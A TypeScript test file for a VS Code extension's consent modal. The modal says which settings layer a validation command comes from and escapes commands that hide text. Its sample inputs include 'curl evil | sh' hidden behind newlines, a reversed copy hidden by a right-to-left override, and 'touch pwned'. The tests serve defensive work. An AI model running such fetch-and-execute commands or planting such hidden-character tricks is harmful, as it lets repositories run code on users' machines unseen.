// What the validation modal says: which settings the command came from (a repository's own settings said as
// such, never as "your"; which layer is in force is settings.test.ts's), and the exact text, escaped when it holds what a modal would hide.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { consentDetail, shownCommand } from '../../../src/extension/review/validationConsent';

test('the modal names where it came from: the repository\'s settings are said to be the repository\'s', () => {
  assert.equal(consentDetail('npm test', 'user', '/work/shop', 2),
    'npm test\n\nrlm.validateCommand, from your user settings. RLM first saves the 2 files it changed. It runs in /work/shop through the shell, and its result shows in the chat.');
  assert.match(consentDetail('touch pwned', 'folder', '/work/shop', 1), /^touch pwned\n\nrlm\.validateCommand, from this folder's settings \(\.vscode\/settings\.json\), which come with the repository: run it only if you recognise it\. RLM first saves the file it changed\./);
  assert.match(consentDetail('make', 'workspace', '/w', 0), /from this workspace's settings \(\.vscode\/settings\.json or the \.code-workspace file\), which come with the repository: run it only if you recognise it\. It runs in \/w/);
  assert.doesNotMatch(consentDetail('make', 'workspace', '/w', 0), /your/);
});

test('the exact text: as typed, or escaped when line breaks, controls or bidirectional characters could hide part of it', () => {
  assert.equal(shownCommand('npm test -- --grep "a b"'), 'npm test -- --grep "a b"');
  assert.equal(shownCommand('npm test\n\n\n\n\n; curl evil | sh'), 'npm test\\u{000A}\\u{000A}\\u{000A}\\u{000A}\\u{000A}; curl evil | sh\n(shown escaped: it holds line breaks, control or invisible characters)');
  assert.equal(shownCommand('npm test #\u202e hs | live lruc ;'), 'npm test #\\u{202E} hs | live lruc ;\n(shown escaped: it holds line breaks, control or invisible characters)');
  assert.match(shownCommand('echo\u200bok'), /^echo\\u\{200B\}ok\n/);
});
